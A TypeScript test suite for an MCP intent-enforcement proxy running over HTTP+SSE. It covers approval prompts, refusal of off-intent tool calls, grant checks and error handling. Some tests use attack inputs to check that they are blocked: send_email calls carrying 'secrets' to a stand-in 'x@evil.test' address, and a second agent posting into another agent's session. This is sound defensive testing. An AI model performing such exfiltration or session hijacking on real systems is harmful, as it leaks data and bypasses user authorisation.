import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
import type { McpError } from '@modelcontextprotocol/sdk/types.js';
import { RPC_CODES } from '../../../src/index.js';
import { mintGrant } from '../../../src/identity/grant.js';
import { generateKeys } from '../../../src/identity/keys.js';
import { startHttpProxy } from '../../../src/transports/http/server.js';
import { createRuntime } from '../../../src/app/runtime.js';
import type { RuntimeOptions } from '../../../src/transports/runtime.js';
import { approvingClient } from '../../helpers/approving-client.js';
import { sseUpstream } from '../../helpers/http-upstream.js';
import { waitFor } from '../../helpers/wait.js';
import { enforcingRuntime } from '../../helpers/runtime.js';

const dir = mkdtempSync(join(tmpdir(), 'ig-sse-'));
writeFileSync(join(dir, 'intent.yaml'), 'purpose: summarise my notes\ntools: [echo, read_notes, slow]\n');

async function stack(extra: Partial<RuntimeOptions> = {}) {
  const upstream = await sseUpstream();
  const runtime = await createRuntime({
    mode: 'enforce',
    db: join(dir, `${Math.random()}.db`),
    pack: true,
    rules: [],
    intentFile: join(dir, 'intent.yaml'),
    log: () => undefined,
    ...extra,
  });
  const proxy = await startHttpProxy({
    upstream: upstream.url,
    runtime,
    resource: 'https://intentguard.test/sse',
  });
  return {
    upstream,
    runtime,
    proxy,
    async close() {
      await proxy.close();
      await runtime.close();
      await upstream.close();
    },
  };
}

const connectClient = async (url: string, token?: string) => {
  const client = new Client({ name: 'sse-agent', version: '1' });
  const headers = token ? { authorization: `Bearer ${token}` } : undefined;
  await client.connect(
    new SSEClientTransport(
      new URL(url),
      headers
        ? {
            requestInit: { headers },
            eventSourceInit: {
              fetch: (u, init) =>
                fetch(u, { ...init, headers: { ...(init?.headers as Record<string, string>), ...headers } }),
            },
          }
        : undefined,
    ),
  );
  return client;
};

describe('intentguard http in front of a legacy HTTP+SSE server', () => {
  it('a held call asks the client over elicitation on its stream; approved it proceeds, declined it is refused and never reaches the server', async () => {
    const s = await stack({ approvals: { elicitation: true } });
    const { client, user } = approvingClient('sse-agent');
    const asked = user.asked;
    await client.connect(new SSEClientTransport(new URL(s.proxy.url)));
    const ok = await client.callTool({
      name: 'send_email',
      arguments: { to: 'team@corp.test', body: 'notes' },
    });
    assert.equal(asked.length, 1);
    assert.match(asked[0]!, /wants to call send_email/);
    assert.ok(!ok.isError, 'approved: the call ran');
    assert.ok(
      s.upstream.seen.some((r) => r.body.includes('team@corp.test')),
      'the approved call reached the server',
    );
    assert.ok(
      !s.upstream.seen.some((r) => r.body.includes('intentguard-')),
      "the prompt's answer never reaches the server",
    );
    user.answer = 'decline';
    await assert.rejects(
      client.callTool({ name: 'send_email', arguments: { to: 'x@evil.test', body: 'secrets' } }),
      (e: unknown) => (e as McpError).code === RPC_CODES.DENIED,
    );
    assert.equal(asked.length, 2);
    assert.ok(
      !s.upstream.seen.some((r) => r.body.includes('x@evil.test')),
      'the declined call never reached the server',
    );
    await client.close();
    await s.close();
  });

  it('a real SDK SSE client reaches a real SDK SSE server; a drifting call is refused on the stream and never reaches the server', async () => {
    const s = await stack();
    assert.match(s.proxy.url, /\/sse$/, 'a legacy upstream is served at /sse');
    const client = await connectClient(s.proxy.url);
    assert.deepEqual((await client.listTools()).tools.map((t) => t.name).sort(), [
      'echo',
      'read_notes',
      'send_email',
      'slow',
    ]);
    assert.deepEqual((await client.callTool({ name: 'echo', arguments: { text: 'over sse' } })).content, [
      { type: 'text', text: 'over sse' },
    ]);
    await assert.rejects(
      client.callTool({ name: 'send_email', arguments: { to: 'x@evil.test', body: 'notes' } }),
      (e: unknown) => {
        assert.equal((e as McpError).code, RPC_CODES.DENIED);
        assert.match((e as McpError).message, /intentguard/);
        return true;
      },
    );
    assert.ok(
      !s.upstream.seen.some((r) => r.body.includes('send_email')),
      'the denied call never reached the server',
    );
    // The client POSTs to intentguard's endpoint, which names intentguard's own session id, not upstream's.
    const [session] = s.runtime.monitor.sessions();
    assert.equal(session!.transport, 'sse');
    assert.ok(
      !s.upstream.seen.some((r) => r.url.includes(session!.transportSessionId!)),
      "upstream never sees intentguard's session id",
    );
    await client.close();
    await waitFor(
      () => s.runtime.monitor.sessions().length === 0,
      'the session to end when the client closes its stream',
    );
    await s.runtime.recorder!.flush();
    const row = s.runtime
      .store!.db.prepare('SELECT transport, calls, outcome, status FROM sessions')
      .get() as Record<string, unknown>;
    assert.equal(row.transport, 'sse');
    assert.equal(row.calls, 2);
    assert.equal(row.outcome, 'reauthorize', 'held for approval; with no approver, refused');
    await s.close();
  });

  it('an upstream that dies mid-call: the pending call gets an error at once and the session ends as ended by upstream', async () => {
    const s = await stack();
    const client = await connectClient(s.proxy.url);
    const [session] = s.runtime.monitor.sessions();
    const handle = s.runtime.monitor.session(session!.id)!;
    const started = Date.now();
    const call = client.callTool({ name: 'slow', arguments: { ms: 20_000 } }).then(
      () => 'answered',
      (e: McpError) => e,
    );
    await waitFor(
      () => s.upstream.seen.some((r) => r.body.includes('"slow"')),
      'the call to reach the server',
    );
    await s.upstream.close();
    const err = (await call) as McpError;
    assert.notEqual(err, 'answered');
    assert.match(err.message, /server closed its stream before answering/);
    assert.ok(Date.now() - started < 10_000, 'the client did not wait for its own timeout');
    assert.match((await handle.whenEnded()).endReason ?? '', /ended by upstream/);
    await client.close();
    await s.proxy.close();
    await s.runtime.close();
  });

  it('bad POSTs get clear errors and nothing is forwarded: unknown session 404, wrong type 415, garbage 400', async () => {
    const s = await stack();
    const base = s.proxy.url.replace(/\/sse$/, '');
    const post = (path: string, body: string, type = 'application/json') =>
      fetch(`${base}${path}`, { method: 'POST', headers: { 'content-type': type }, body });
    const unknown = await post(
      '/messages?sessionId=nope',
      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' }),
    );
    assert.equal(unknown.status, 404);
    assert.equal(
      ((await unknown.json()) as { error: { data: { code: string } } }).error.data.code,
      'ERR_SESSION_CLOSED',
    );
    assert.equal((await post('/messages?sessionId=x', '{}', 'text/plain')).status, 415);
    const garbage = await post('/messages?sessionId=x', '{"jsonrpc": ');
    assert.equal(garbage.status, 400);
    assert.equal(
      ((await garbage.json()) as { error: { data: { code: string } } }).error.data.code,
      'ERR_JSONRPC_INVALID',
    );
    assert.equal((await fetch(`${base}/messages`, { method: 'GET' })).status, 405);
    assert.equal(s.upstream.seen.filter((r) => r.method === 'POST').length, 0, 'nothing reached the server');
    await s.close();
  });

  it("with grants: the stream needs a valid grant, and a session's messages must come from the same agent", async () => {
    const keys = await generateKeys();
    writeFileSync(join(dir, 'jwks.json'), JSON.stringify(keys.publicJwks));
    const s = await stack({
      auth: {
        jwks: join(dir, 'jwks.json'),
        issuers: ['https://idp.test'],
        audience: 'https://intentguard.test/sse',
      },
    });
    const denied = await fetch(s.proxy.url, { headers: { accept: 'text/event-stream' } });
    assert.equal(denied.status, 401);
    assert.match(denied.headers.get('www-authenticate')!, /^Bearer realm="intentguard"/);
    const mint = (sub: string) =>
      mintGrant({
        privateJwk: keys.privateJwk,
        iss: 'https://idp.test',
        aud: 'https://intentguard.test/sse',
        sub,
        ttl: '5m',
        intent: { purpose: 'echo things', tools: ['echo'] },
      });
    const client = await connectClient(s.proxy.url, await mint('agent:a'));
    assert.deepEqual((await client.callTool({ name: 'echo', arguments: { text: 'granted' } })).content, [
      { type: 'text', text: 'granted' },
    ]);
    assert.ok(
      s.upstream.seen.every((r) => r.headers.authorization === undefined),
      'the client token is never forwarded',
    );
    const [session] = s.runtime.monitor.sessions();
    const base = s.proxy.url.replace(/\/sse$/, '');
    const hijack = await fetch(`${base}/messages?sessionId=${session!.transportSessionId}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${await mint('agent:b')}` },
      body: JSON.stringify({
        jsonrpc: '2.0',
        id: 7,
        method: 'tools/call',
        params: { name: 'echo', arguments: { text: 'hijack' } },
      }),
    });
    assert.equal(hijack.status, 403);
    assert.ok(
      !s.upstream.seen.some((r) => r.body.includes('hijack')),
      'another agent cannot post into the session',
    );
    await client.close();
    await s.close();
  });

  it("a server that refuses a POST (HTTP 500): its requests are answered with errors on the client's stream, not left to time out", async () => {
    let stream: import('node:http').ServerResponse | undefined;
    const upstream = createServer(async (req, res) => {
      if (req.method === 'GET') {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write('event: endpoint\ndata: /messages?session=raw\n\n');
        stream = res;
        return;
      }
      const chunks: Buffer[] = [];
      for await (const c of req) chunks.push(c as Buffer);
      const m = JSON.parse(Buffer.concat(chunks).toString('utf8')) as { id?: number; method: string };
      if (m.method !== 'initialize') return void res.writeHead(500).end('boom');
      res.writeHead(202).end('Accepted');
      stream!.write(
        `event: message\ndata: ${JSON.stringify({ jsonrpc: '2.0', id: m.id, result: { protocolVersion: '2024-11-05', capabilities: {}, serverInfo: { name: 'raw', version: '1' } } })}\n\n`,
      );
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const runtime = await enforcingRuntime(join(dir, 'intent.yaml'));
    const proxy = await startHttpProxy({
      upstream: `http://127.0.0.1:${(upstream.address() as { port: number }).port}/sse`,
      runtime,
    });
    const events: string[] = [];
    const sse = await fetch(proxy.url, { headers: { accept: 'text/event-stream' } });
    const reader = sse.body!.pipeThrough(new TextDecoderStream()).getReader();
    void (async () => {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) break;
        events.push(value);
      }
    })();
    await waitFor(() => events.join('').includes('event: endpoint'), 'the endpoint event');
    const endpoint = /data: (\S+)/.exec(events.join(''))![1]!;
    const postTo = (body: unknown) =>
      fetch(new URL(endpoint, proxy.url), {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    assert.equal(
      (
        await postTo({
          jsonrpc: '2.0',
          id: 0,
          method: 'initialize',
          params: {
            protocolVersion: '2024-11-05',
            capabilities: {},
            clientInfo: { name: 'c', version: '1' },
          },
        })
      ).status,
      202,
    );
    assert.equal((await postTo({ jsonrpc: '2.0', id: 1, method: 'tools/list' })).status, 500);
    await waitFor(() => events.join('').includes('"id":1'), 'an answer to the refused request on the stream');
    const answer = JSON.parse(
      events
        .join('')
        .split('\n')
        .find((l) => l.includes('"id":1'))!
        .slice(6),
    ) as { error: { data: { code: string }; message: string } };
    assert.equal(answer.error.data.code, 'ERR_UPSTREAM');
    assert.match(answer.error.message, /HTTP 500/);
    await reader.cancel();
    await proxy.close();
    await runtime.close();
    upstream.closeAllConnections();
    upstream.close();
  });
});
